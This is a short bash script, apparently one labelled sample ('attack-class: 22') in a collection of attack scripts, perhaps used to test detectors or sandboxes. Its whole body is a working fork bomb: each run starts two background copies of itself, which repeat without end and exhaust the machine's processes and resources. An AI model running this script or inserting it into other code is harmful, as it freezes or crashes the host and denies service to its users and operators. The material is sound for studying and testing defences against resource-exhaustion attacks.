#!/usr/bin/env bash
# attack-class: 22
# title: "$0" & "$0" &
# why: the script starts two copies of itself

"$0" &
"$0" &
wait
